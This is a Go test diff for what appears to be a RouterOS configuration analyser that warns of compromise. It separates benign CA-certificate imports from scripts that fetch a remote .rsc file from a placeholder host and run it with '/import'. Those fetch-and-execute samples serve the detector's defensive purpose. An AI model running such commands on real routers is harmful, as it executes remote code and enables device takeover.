@@ -127,3 +127,27 @@ func TestSocksVerboseDefaults(t *testing.T) {
 		}
 	}
 }
+
+// TestCompromiseCertificateImport (chk57 D11): a script that fetches the
+// CA bundle and runs "/certificate import" (the manual's CA store renewal,
+// rc31's RB5009) is no sign of compromise; "/import" of what it fetched,
+// in either syntax, still is. Controls: ";/import", "/import" on a line
+// of its own, and a v7 "/certificate/import".
+func TestCompromiseCertificateImport(t *testing.T) {
+	const head = "# 2024-01-10 10:00:00 by RouterOS 7.2.3\n/ip address\nadd address=192.168.88.1/24 interface=ether2 network=192.168.88.0\n/ip dhcp-client\nadd interface=ether1\n/system script\n"
+	for _, tt := range []struct {
+		source string
+		sign   bool
+	}{
+		{`{\r\n  :do {\r\n      /tool fetch url=https://mkcert.org/generate/ check-certificate=yes dst-path=cacert.pem;\r\n      /certificate import file-name=cacert.pem passphrase=\"\";\r\n  } on-error={}\r\n}`, false},
+		{`/tool fetch url=https://x.example/c.pem dst-path=c.pem; /certificate/import file-name=c.pem`, false},
+		{`/tool fetch url=https://x.example/a.rsc;/import file-name=a.rsc`, true},
+		{`{\r\n  /tool fetch url=https://x.example/a.rsc\r\n  /import file-name=a.rsc\r\n}`, true},
+		{`:do { /tool fetch url=https://x.example/a.rsc } on-error={}; import a.rsc`, true},
+	} {
+		w := strings.Join(loadText(t, head+`add name=s source="`+tt.source+"\"\n").CompromiseWarnings(), "\n")
+		if strings.Contains(w, "downloads a file with /tool fetch and runs it with /import") != tt.sign {
+			t.Errorf("%q: warnings %q, want a sign %v", tt.source, w, tt.sign)
+		}
+	}
+}
